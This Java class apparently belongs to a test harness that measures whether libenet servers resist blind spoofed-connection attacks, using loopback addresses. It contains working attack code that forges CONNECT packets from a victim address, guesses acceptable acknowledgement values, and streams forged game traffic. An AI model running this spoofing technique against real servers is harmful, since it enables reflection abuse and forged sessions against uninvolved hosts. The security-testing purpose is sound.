package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.net.Link;
import dev.entitynet.examples.enetattack.net.LoopbackAddresses;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.wire.AcknowledgeCommand;
import dev.entitynet.examples.enetattack.wire.CommandCursor;
import dev.entitynet.examples.enetattack.wire.ConnectCommand;
import dev.entitynet.examples.enetattack.wire.DisconnectCommand;
import dev.entitynet.examples.enetattack.wire.Header;
import dev.entitynet.examples.enetattack.wire.PingCommand;
import dev.entitynet.examples.enetattack.wire.SendReliableCommand;
import dev.entitynet.examples.enetattack.wire.SendUnsequencedCommand;
import dev.entitynet.transport.enet.protocol.Protocol;

import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.util.Set;

/**
 * A blind spoofer: sends CONNECT from a victim's address, never hears the answer, and guesses the
 * acknowledgement a libenet server would accept: peer id = lowest free slot (it tries the first
 * few), session 0 (fresh slot), VERIFY_CONNECT's reliable sequence number 1, and an echoed sent
 * time close to now on libenet's wall-clock-based timer, plus 0 (in the past for any 16-bit
 * reconstruction, so any server that only rejects future echoes accepts it), repeated a few times
 * over the first second and a bit because it cannot see when the server answered. Then it sends
 * SceneMultiplayer-shaped traffic as that "client". The victim's socket only listens: what it
 * receives shows whether the server completed the handshake and streamed data to an address that
 * never asked for it.
 */
final class BlindAttack implements Attack {
    static final int BLOCK = 40;
    /**
     * When the guesses go out, after CONNECT: the spoofer cannot see when VERIFY_CONNECT leaves
     * the server (an ACK that arrives before it is rejected), so it repeats them.
     */
    static final long[] GUESS_DELAYS_MILLIS = {50, 250, 600, 1200};

    @Override
    public String name() {
        return "blind";
    }

    @Override
    public String usage() {
        return "[--guess-peers 4] [--guess-sessions 1] [--time-margin-ms 100] [--packets 100] [--packet-bytes 200] [--seconds 2] [--listen 2]";
    }

    @Override
    public Set<String> options() {
        return Set.of("guess-peers", "guess-sessions", "time-margin-ms", "packets", "packet-bytes", "seconds", "listen");
    }

    @Override
    public Results run(Target target, Arguments a) {
        int peers = a.intValue("guess-peers", 4);
        int sessions = a.intValue("guess-sessions", 1);
        long margin = a.longValue("time-margin-ms", 100);
        int packets = a.intValue("packets", 100);
        int packetBytes = a.intValue("packet-bytes", 200);
        long streamMillis = (long) (a.doubleValue("seconds", 2) * 1000);
        long listenMillis = (long) (a.doubleValue("listen", 2) * 1000);
        Results results = new Results(name());
        VictimEars ears = new VictimEars();
        try (Link victim = Link.open(new InetSocketAddress(LoopbackAddresses.nth(BLOCK, 0), 0), target.server(), 4 * 1024 * 1024)) {
            ByteBuffer out = ByteBuffer.allocate(Protocol.MAXIMUM_DATAGRAM);
            out.clear();
            Header.write(out, Protocol.MAXIMUM_PEER_ID, 0, MilliClock.sentTime());
            ConnectCommand.fresh(0, target.channels(), target.random().nextInt()).write(out, 1);
            victim.send(out.flip());
            int guesses = 0;
            long connectSent = MilliClock.millis();
            for (long delay : GUESS_DELAYS_MILLIS) {
                listen(victim, ears, connectSent + delay - MilliClock.millis());
                int[] echoes = {(int) ((System.currentTimeMillis() - margin) & 0xFFFF), 0};
                for (int peer = 0; peer < peers; peer++) {
                    for (int session = 0; session < sessions; session++) {
                        for (int echo : echoes) {
                            out.clear();
                            Header.write(out, peer, session, MilliClock.sentTime());
                            new AcknowledgeCommand(Protocol.SYSTEM_CHANNEL, 1, echo).write(out);
                            PingCommand.write(out, 2);
                            victim.send(out.flip());
                            guesses++;
                        }
                    }
                }
            }
            listen(victim, ears, 100);
            long attackerBytesBeforeStream = victim.bytesSent();
            RatePacer pacer = new RatePacer(packets * 1000.0 / Math.max(1, streamMillis));
            long streamEnd = MilliClock.millis() + streamMillis + 1000;
            int sent = 0;
            while (sent < packets && MilliClock.millis() < streamEnd) {
                for (int n = pacer.due(); n > 0 && sent < packets; n--, sent++) {
                    byte[] reliable = SceneTraffic.raw(sent, packetBytes);
                    byte[] unreliable = SceneTraffic.sync(sent, packetBytes / 2);
                    for (int peer = 0; peer < peers; peer++) {
                        for (int session = 0; session < sessions; session++) {
                            out.clear();
                            Header.write(out, peer, session, MilliClock.sentTime());
                            SendReliableCommand.write(out, SceneTraffic.RELIABLE_CHANNEL, sent + 1, reliable, 0, reliable.length);
                            if (target.channels() > SceneTraffic.UNRELIABLE_CHANNEL) {
                                SendUnsequencedCommand.write(out, SceneTraffic.UNRELIABLE_CHANNEL, sent + 1, unreliable, 0, unreliable.length);
                            }
                            victim.send(out.flip());
                        }
                    }
                }
                listen(victim, ears, 1);
            }
            listen(victim, ears, listenMillis);
            results.put("guesses", guesses)
                    .put("packets_sent", sent)
                    .put("attacker_bytes", victim.bytesSent())
                    .put("attacker_stream_bytes", victim.bytesSent() - attackerBytesBeforeStream)
                    .put("victim_bytes", victim.bytesReceived())
                    .put("victim_datagrams", victim.datagramsReceived())
                    .put("victim_verify_datagrams", ears.verifyDatagrams)
                    .put("victim_other_datagrams", ears.otherDatagrams)
                    .put("victim_data_bytes", ears.dataBytes)
                    .put("handshake_completed", ears.otherDatagrams > 0)
                    .put("streamed", ears.dataBytes > 0);
            for (int peer = 0; peer < peers; peer++) {
                for (int session = 0; session < sessions; session++) {
                    out.clear();
                    Header.write(out, peer, session, Header.NO_SENT_TIME);
                    DisconnectCommand.write(out, 3, 0, false);
                    victim.send(out.flip());
                }
            }
        }
        return results;
    }

    private static void listen(Link victim, VictimEars ears, long millis) {
        long end = MilliClock.millis() + millis;
        for (long now = MilliClock.millis(); now < end; now = MilliClock.millis()) {
            if (victim.await(end - now)) {
                while (victim.receiveNow(ears.buffer) >= 0) {
                    ears.classify();
                }
            }
        }
    }

    /** What the victim's address received, by kind: VERIFY_CONNECT only, or anything a completed handshake brings. */
    private static final class VictimEars {
        final ByteBuffer buffer = ByteBuffer.allocate(65536);
        final CommandCursor cursor = new CommandCursor();
        long verifyDatagrams;
        long otherDatagrams;
        long dataBytes;

        void classify() {
            Header header = Header.read(buffer);
            if (header == null) {
                return;
            }
            boolean other = false;
            cursor.reset(buffer, header);
            while (cursor.next()) {
                if (cursor.number() != Protocol.VERIFY_CONNECT) {
                    other = true;
                }
                if (cursor.isData()) {
                    dataBytes += cursor.payloadLength();
                }
            }
            if (other) {
                otherDatagrams++;
            } else {
                verifyDatagrams++;
            }
        }
    }
}
